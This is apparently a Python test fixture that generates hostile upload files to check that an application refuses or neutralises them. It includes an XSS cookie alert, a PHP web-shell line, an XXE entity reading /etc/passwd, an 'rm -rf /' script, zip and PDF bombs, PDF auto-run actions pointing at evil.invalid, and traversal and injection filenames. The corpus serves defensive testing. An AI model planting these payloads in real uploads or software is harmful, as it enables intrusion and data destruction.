"""A corpus of hostile files, made here: nothing is downloaded. Each has what must not be left of it.

`marks`: bytes that may not stand in anything that is kept. `may_be`: what may become of it: refused, or neutralised
(kept, as pictures of ours). What must be refused, or must be taken, says only that.
"""

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from typing import Any

import pikepdf
from PIL import Image
from PIL.TiffImagePlugin import IFDRational

from tests.applications.paper_story import document, photo

SCRIPT = b"<script>alert(document.cookie)</script>"
PHP = b"<?php system($_GET['c']); ?>"
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}" + b"$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!" + b"$H+H*"
GPS_MARK = b"RekaanCamera GPS"
EITHER = ("refused", "neutralised")
TAKEN = ("neutralised",)
REFUSED = ("refused",)


@dataclass(frozen=True, slots=True)
class Hostile:
    """One hostile file."""

    name: str
    data: bytes
    marks: tuple[bytes, ...] = ()
    may_be: tuple[str, ...] = EITHER


def corpus() -> Iterator[Hostile]:
    """Make all of them."""
    for make in _makers():
        yield from make()


def one_of_each() -> list[Hostile]:
    """Make the first of each sort."""
    return [next(make()) for make in _makers()]


def _makers() -> tuple[Callable[[], Iterator[Hostile]], ...]:
    return (
        not_what_they_say, polyglots, metadata, pixel_floods, broken_images, broken_documents, acting_documents,
        heavy_documents, locked_documents, hidden_actions, strange_names,
    )  # fmt: skip


def archive(content: bytes = SCRIPT, name: str = "x.html") -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as file:
        file.writestr(name, content)
    return out.getvalue()


def tiff() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (300, 300)).save(out, "TIFF")
    return out.getvalue()


def other(form: str) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (300, 300), "red").save(out, form)
    return out.getvalue()


SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
KINDS: dict[str, bytes] = {
    "svg": SVG,
    "svg with a head": b'<?xml version="1.0"?>' + SVG,
    "svg with an entity": b'<!DOCTYPE s [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>',
    "html": b"<!doctype html><html>" + SCRIPT,
    "html with a mark": b"\xef\xbb\xbf<html>" + SCRIPT,
    "php": PHP,
    "elf": b"\x7fELF\x02\x01\x01" + bytes(200),
    "exe": b"MZ\x90\x00" + bytes(200),
    "shell": b"#!/bin/sh\nrm -rf /\n",
    "zip": archive(),
    "zip bomb": archive(bytes(40 << 20), "zeros"),
    "eicar": EICAR,
    "gif": b"GIF89a" + bytes(40),
    "gif that is script": b"GIF89a/*" + bytes(10) + b"*/=1;alert(1)//",
    "flash": b"FWS\x09" + bytes(100),
    "rtf": rb"{\rtf1\object}",
    "mht": b"MIME-Version: 1.0\nContent-Type: multipart/related\n" + SCRIPT,
    "ole": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600),
    "postscript": b"%!PS-Adobe-3.0\n(x) run\n",
    "eps in dos": b"\xc5\xd0\xd3\xc6" + bytes(64),
    "heic": bytes(4) + b"ftypheic" + bytes(40),
    "java": b"\xca\xfe\xba\xbe" + bytes(40),
    "gzip": b"\x1f\x8b\x08" + bytes(40),
    "xml": b"<?xml version='1.0'?><a/>",
    "empty pdf": b"%PDF-1.7\n%%EOF",
    "nothing": b"\0" * 64,
    "one byte": b"x",
    "text": b"KK saya",
}


def not_what_they_say() -> Iterator[Hostile]:
    """Something else under the name of a picture."""
    for name, data in {
        **KINDS,
        "tiff": tiff(),
        **{form: other(form) for form in ("BMP", "GIF", "WEBP", "ICO", "PPM", "TGA", "PCX")},
    }.items():
        for ending in ("jpg", "pdf"):
            yield Hostile(f"{name}.{ending}", data, (SCRIPT, PHP, EICAR), REFUSED)


def polyglots() -> Iterator[Hostile]:
    """A good picture or document that is something else as well."""
    plain = {"jpeg": photo(), "png": photo(form="PNG"), "pdf": document()}
    tails = {
        "html": SCRIPT,
        "php": PHP,
        "zip": archive(),
        "eicar": EICAR,
        "svg": SVG,
        "pdf": document(seed=9),
        "exe": b"MZ\x90\0evil-tail",
    }
    for kind, data in plain.items():
        for name, tail in tails.items():
            yield Hostile(
                f"{kind} and {name} behind it", data + tail, (SCRIPT, PHP, EICAR, b"evil-tail", b"PK\x03\x04")
            )
            yield Hostile(f"{name} and then {kind}", tail + data, (SCRIPT, PHP, EICAR, b"evil-tail", b"PK\x03\x04"))
    for number, payload in enumerate((SCRIPT, PHP, EICAR, archive(), b"*/alert(1)/*", b"<!--" + SCRIPT + b"-->")):
        jpeg = plain["jpeg"]
        comment = b"\xff\xfe" + struct.pack(">H", len(payload) + 2) + payload
        yield Hostile(f"jpeg comment {number}", jpeg[:2] + comment + jpeg[2:], (payload[:20],))
        for marker in range(0xE1, 0xF0):
            part = bytes([0xFF, marker]) + struct.pack(">H", len(payload) + 2) + payload
            yield Hostile(f"jpeg part {marker:x} {number}", jpeg[:2] + part + jpeg[2:], (payload[:20],))
        for chunk in (b"tEXt", b"iTXt", b"eXIf", b"iCCP", b"zzZz", b"acTL"):
            yield Hostile(
                f"png {chunk.decode()} {number}", with_chunk(plain["png"], chunk, b"a\0" + payload), (payload[:20],)
            )


def with_chunk(png: bytes, name: bytes, data: bytes) -> bytes:
    """Put a chunk behind the head of a PNG."""
    part = struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))
    return png[:33] + part + png[33:]


def metadata() -> Iterator[Hostile]:
    """Where and with what it was taken is nobody's business."""
    for turned in range(1, 9):
        exif = Image.Exif()
        exif[0x010F], exif[0x0112] = GPS_MARK.decode(), turned
        exif.get_ifd(0x8825).update({1: "S", 2: (IFDRational(6), IFDRational(35), IFDRational(0))})
        for form in ("JPEG", "PNG"):
            yield Hostile(
                f"{form} taken at a place, turned {turned}", photo(form=form, exif=exif), (GPS_MARK, b"Exif"), TAKEN
            )
    yield Hostile("jpeg with xmp", photo(xmp=b"<x:xmpmeta>" + SCRIPT + b"</x:xmpmeta>"), (SCRIPT, b"xmpmeta"), TAKEN)
    yield Hostile("jpeg with a profile", photo(icc_profile=b"x" * 200 + SCRIPT), (SCRIPT,), TAKEN)
    yield Hostile("jpeg with a comment", photo(comment=SCRIPT), (SCRIPT,), TAKEN)


def png_of(width: int, height: int, rows: bytes = b"") -> bytes:
    """Write a PNG that says it is so large."""
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    out = b"\x89PNG\r\n\x1a\n"
    for name, data in ((b"IHDR", head), (b"IDAT", zlib.compress(rows or b"\0" * 1000, 9)), (b"IEND", b"")):
        out += struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))
    return out


def pixel_floods() -> Iterator[Hostile]:
    """Small files that would fill the memory."""
    for width, height in (
        (50_000, 50_000),
        (2**31 - 1, 1),
        (1, 2**31 - 1),
        (30_000, 30_000),
        (6_000, 6_000),
        (100_000, 500),
    ):
        yield Hostile(f"png of {width} x {height}", png_of(width, height), (), REFUSED)
    yield Hostile("png of 36 million real points", png_of(6_000, 6_000, bytes(6_000 * 18_001)), (), REFUSED)
    jpeg = photo()
    at = jpeg.index(b"\xff\xc0") + 5
    for side in (65_500, 40_000, 20_000):
        yield Hostile(f"jpeg of {side}", jpeg[:at] + struct.pack(">HH", side, side) + jpeg[at + 4 :], (), REFUSED)
    big = io.BytesIO()
    Image.new("L", (8_000, 8_000)).save(big, "JPEG", progressive=True)
    yield Hostile("progressive jpeg of 64 million points", big.getvalue(), (), REFUSED)
    for bits in ("1", "L", "P", "I;16"):
        out = io.BytesIO()
        Image.new(bits, (6_000, 6_000)).save(out, "PNG")
        yield Hostile(f"png of 36 million points, {bits}", out.getvalue(), (), REFUSED)
    text = zlib.compress(bytes(30 << 20), 9)
    yield Hostile("png text bomb", with_chunk(photo(form="PNG"), b"zTXt", b"k\0\0" + text))
    yield Hostile("png profile bomb", with_chunk(photo(form="PNG"), b"iCCP", b"k\0\0" + text))


def broken_images() -> Iterator[Hostile]:
    """Cut, flipped and filled at random; the seed is fixed."""
    chance = random.Random(14)
    for form in ("JPEG", "PNG"):
        data = photo(form=form)
        for part in (0.02, 0.1, 0.5, 0.9, 0.99):
            yield Hostile(f"{form} cut at {part}", data[: int(len(data) * part)], (), REFUSED)
        for number in range(15):
            changed = bytearray(data)
            for _ in range(1 + number * 3):
                changed[chance.randrange(4, len(changed))] = chance.randrange(256)
            yield Hostile(f"{form} with noise {number}", bytes(changed))
        yield Hostile(f"{form} and nothing", data[:12], (), REFUSED)


def broken_documents() -> Iterator[Hostile]:
    """The same for a PDF."""
    chance, data = random.Random(15), document(2)
    for part in (0.01, 0.1, 0.5, 0.9):
        yield Hostile(f"pdf cut at {part}", data[: int(len(data) * part)])
    for number in range(15):
        changed = bytearray(data)
        for _ in range(1 + number * 5):
            changed[chance.randrange(8, len(changed))] = chance.randrange(256)
        yield Hostile(f"pdf with noise {number}", bytes(changed))
    yield Hostile("pdf of noise", b"%PDF-1.7\n" + chance.randbytes(50_000), (), REFUSED)
    yield Hostile("pdf without a page", made(lambda pdf: pdf.pages.__delitem__(0)), (), REFUSED)
    yield Hostile("pdf whose pages are a circle", document().replace(b"/Kids [ ", b"/Kids [ 1 0 R ", 1))
    yield Hostile("pdf with html before it", SCRIPT + data, (SCRIPT,), REFUSED)


def made(change: Any, *, pages: int = 1, **options: Any) -> bytes:
    """Change a good PDF and write it again."""
    with pikepdf.open(io.BytesIO(document(pages))) as pdf:
        change(pdf)
        out = io.BytesIO()
        pdf.save(out, **options)
        return out.getvalue()


ACTIONS: dict[str, dict[str, Any]] = {
    "JavaScript": {"S": "/JavaScript", "JS": "app.alert('evil-js')"},
    "Launch": {"S": "/Launch", "F": "evil-launch.exe"},
    "SubmitForm": {"S": "/SubmitForm", "F": "http://evil.invalid/evil-submit"},
    "ImportData": {"S": "/ImportData", "F": "evil-import.fdf"},
    "GoToE": {"S": "/GoToE", "F": "evil-embedded.pdf"},
}
LINKS: dict[str, dict[str, Any]] = {
    "URI": {"S": "/URI", "URI": "http://evil.invalid/evil-uri"},
    "GoToR": {"S": "/GoToR", "F": "evil-remote.pdf"},
    "Named": {"S": "/Named", "N": "/Print"},
}


def dictionary(facts: dict[str, Any]) -> pikepdf.Dictionary:
    return pikepdf.Dictionary(
        {f"/{key}": pikepdf.Name(text) if text.startswith("/") else pikepdf.String(text) for key, text in facts.items()}
    )


def _at_open(pdf: Any, action: Any) -> None:
    pdf.Root.OpenAction = action


def _at_page(pdf: Any, action: Any) -> None:
    pdf.pages[0].AA = pikepdf.Dictionary(O=action)


def _at_close(pdf: Any, action: Any) -> None:
    pdf.Root.AA = pikepdf.Dictionary(WC=action)


def _at_link(pdf: Any, action: Any) -> None:
    link = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 600, 800], A=action)
    pdf.pages[0].Annots = pdf.make_indirect(pikepdf.Array([pdf.make_indirect(link)]))


def _at_name(pdf: Any, action: Any) -> None:
    tree = pikepdf.Dictionary(Names=[pikepdf.String("x"), pdf.make_indirect(action)])
    pdf.Root.Names = pikepdf.Dictionary(JavaScript=tree)


def _at_next(pdf: Any, action: Any) -> None:
    pdf.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.Named, N=pikepdf.Name.NextPage, Next=[action])


def _at_field(pdf: Any, action: Any) -> None:
    field = pikepdf.Dictionary(FT=pikepdf.Name.Tx, T=pikepdf.String("a"), AA=pikepdf.Dictionary(K=action))
    pdf.Root.AcroForm = pikepdf.Dictionary(Fields=[pdf.make_indirect(field)])


def _at_outline(pdf: Any, action: Any) -> None:
    item = pikepdf.Dictionary(Title=pikepdf.String("x"), A=action)
    pdf.Root.Outlines = pikepdf.Dictionary(First=pdf.make_indirect(item), Count=1)


def _nowhere(pdf: Any, action: Any) -> None:
    pdf.Root.Extra = pdf.make_indirect(pikepdf.Array([[[action]]]))


PLACES = (_at_open, _at_page, _at_close, _at_link, _at_name, _at_next, _at_field, _at_outline, _nowhere)


def acting_documents() -> Iterator[Hostile]:
    """Whatever acts, wherever it stands, plain and in compressed objects."""
    for name, facts in ACTIONS.items():
        for place in PLACES:
            for packed in (pikepdf.ObjectStreamMode.disable, pikepdf.ObjectStreamMode.generate):
                data = made(lambda pdf, f=facts, p=place: p(pdf, dictionary(f)), object_stream_mode=packed)
                yield Hostile(f"pdf {name} {place.__name__} {packed.name}", data, (b"evil-",), REFUSED)
    for name, facts in LINKS.items():
        for place in (_at_open, _at_page, _at_link, _at_outline):
            data = made(lambda pdf, f=facts, p=place: p(pdf, dictionary(f)))
            yield Hostile(f"pdf {name} {place.__name__}", data, (b"evil-", b"/OpenAction", b"/Annots", b"/Outlines"))


def heavy_documents() -> Iterator[Hostile]:
    """Small documents that would keep a machine busy."""
    for pages in (11, 40, 5_000):

        def more(pdf: Any, count: int = pages) -> None:
            for _ in range(count - 1):
                pdf.pages.append(pdf.pages[0])

        yield Hostile(f"pdf of {pages} pages", made(more), (), REFUSED)
    zeros = zlib.compress(zlib.compress(bytes(60 << 20), 9), 9)
    for name, filters in (("twice", ["/FlateDecode", "/FlateDecode"]), ("once", ["/FlateDecode"])):

        def bomb(pdf: Any, f: list[str] = filters) -> None:
            data = zeros if len(f) == 2 else zlib.compress(bytes(100 << 20), 1)
            stream = pikepdf.Stream(pdf, data)
            stream.stream_dict.Filter = pikepdf.Array([pikepdf.Name(one) for one in f])
            pdf.pages[0].Contents = pdf.make_indirect(stream)

        yield Hostile(f"pdf bomb, packed {name}", made(bomb))
    for name, drawn in {
        "a million lines": b"0 0 m 600 800 l S\n" * 200_000,
        "nested states": b"q " * 500_000,
        "shadings": b"0.1 w 0 0 600 800 re W n\n" * 100_000,
        "fonts that are not there": b"BT /F1 900 Tf (AAAA) Tj ET\n" * 20_000,
    }.items():

        def draw(pdf: Any, d: bytes = drawn) -> None:
            pdf.pages[0].Contents = pdf.make_stream(d)

        yield Hostile(f"pdf with {name}", made(draw))
    for box in ([0, 0, 10**7, 10**7], [0, 0, 0, 0], [0, 0, 1, 10**9], [-(10**6), 0, 10**6, 5]):

        def size(pdf: Any, b: list[int] = box) -> None:
            pdf.pages[0].MediaBox = b

        yield Hostile(f"pdf page of {box}", made(size))

    def itself(pdf: Any) -> None:
        form = pdf.make_stream(b"/X Do")
        form.Type, form.Subtype, form.BBox = pikepdf.Name.XObject, pikepdf.Name.Form, [0, 0, 600, 800]
        form.Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(X=form))
        pdf.pages[0].Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(X=form))
        pdf.pages[0].Contents = pdf.make_stream(b"/X Do")

    yield Hostile("pdf that draws itself", made(itself))

    def objects(pdf: Any) -> None:
        pdf.Root.Many = pikepdf.Array([pdf.make_indirect(pikepdf.Dictionary(A=n)) for n in range(30_000)])

    yield Hostile("pdf of 30,000 objects", made(objects), (), REFUSED)


def locked_documents() -> Iterator[Hostile]:
    """What is encrypted cannot be looked into; what carries files or forms of its own is not taken."""
    for level in (3, 4, 6):
        for user in ("", "rahasia"):
            lock = pikepdf.Encryption(owner="pemilik", user=user, R=level, metadata=level > 3, aes=level > 3)
            yield Hostile(f"pdf locked {level} {user}", made(lambda pdf: None, encryption=lock), (), REFUSED)
    for name, content in {"exe": b"MZevil-inside", "html": SCRIPT, "pdf": document()}.items():

        def attach(pdf: Any, n: str = name, c: bytes = content) -> None:
            pdf.attachments[f"x.{n}"] = c

        yield Hostile(f"pdf with {name} in it", made(attach), (b"evil-inside", SCRIPT), REFUSED)

    def xfa(pdf: Any) -> None:
        form = pdf.make_stream(b"<xdp:xdp>evil-xfa" + SCRIPT + b"</xdp:xdp>")
        pdf.Root.AcroForm = pikepdf.Dictionary(Fields=[], XFA=[pikepdf.String("template"), form])

    yield Hostile("pdf xfa", made(xfa), (b"evil-xfa",), REFUSED)
    for kind in ("RichMedia", "FileAttachment", "Movie", "Screen", "Sound", "3D"):

        def media(pdf: Any, k: str = kind) -> None:
            facts = {"/Type": pikepdf.Name.Annot, "/Subtype": pikepdf.Name(f"/{k}"), "/Rect": [0, 0, 90, 90]}
            if k == "RichMedia":
                facts["/RichMediaContent"] = pikepdf.Dictionary(Assets=pikepdf.String("evil-media"))
            if k == "FileAttachment":
                facts["/FS"] = pikepdf.Dictionary(
                    Type=pikepdf.Name.Filespec, EF=pikepdf.Dictionary(F=pdf.make_stream(b"evil-attached"))
                )
            pdf.pages[0].Annots = [pdf.make_indirect(pikepdf.Dictionary(facts))]

        may = REFUSED if kind in ("RichMedia", "FileAttachment") else EITHER
        yield Hostile(f"pdf {kind}", made(media), (b"evil-media", b"evil-attached", b"/Annots"), may)


def hidden_actions() -> Iterator[Hostile]:
    """Spelled otherwise, the same names act as well."""
    data = made(
        lambda pdf: _at_open(pdf, dictionary(ACTIONS["JavaScript"])),
        object_stream_mode=pikepdf.ObjectStreamMode.disable,
    )
    for old, new in (
        (b"/JavaScript", b"/J#61vaScript"),
        (b"/JavaScript", b"/#4aavaScript"),
        (b"/OpenAction", b"/Open#41ction"),
        (b"/JS", b"/J#53"),
    ):
        yield Hostile(f"pdf {new.decode()}", data.replace(old, new), (b"evil-",), REFUSED)
    kept = document()
    extra = b"\n9990 0 obj\n<< /S /JavaScript /JS (app.alert\\(evil-late\\)) >>\nendobj\n"
    yield Hostile("pdf with an object behind its end", kept + extra, (b"evil-late",))
    yield Hostile("pdf with a second head", b"%PDF-1.4\n" + data, (b"evil-",))
    yield Hostile("pdf with its name in capitals", b"%pdf-1.4\n" + data[9:], (b"evil-",), REFUSED)


def strange_names() -> Iterator[Hostile]:
    """Names that lead elsewhere, or read otherwise than they are. The data are good: the name must do no harm."""
    for name in (
        "../../../etc/cron.d/x", "..\\..\\boot.ini", "/etc/passwd", "kk\u202egpj.exe", "a\0b.jpg", "CON", "kk.jpg.exe",
        "<img src=x onerror=alert(1)>.jpg", "'; DROP TABLE antri_paper; --.jpg", "x" * 3_000, "\u200b\u200b.jpg",
        ".htaccess", "%2e%2e%2fx.jpg", "kk\r\nSet-Cookie: a=b.jpg", "={1+1}.jpg", "\ud83d\ude00.jpg",
    ):  # fmt: skip
        yield Hostile(name, photo(300, 300))
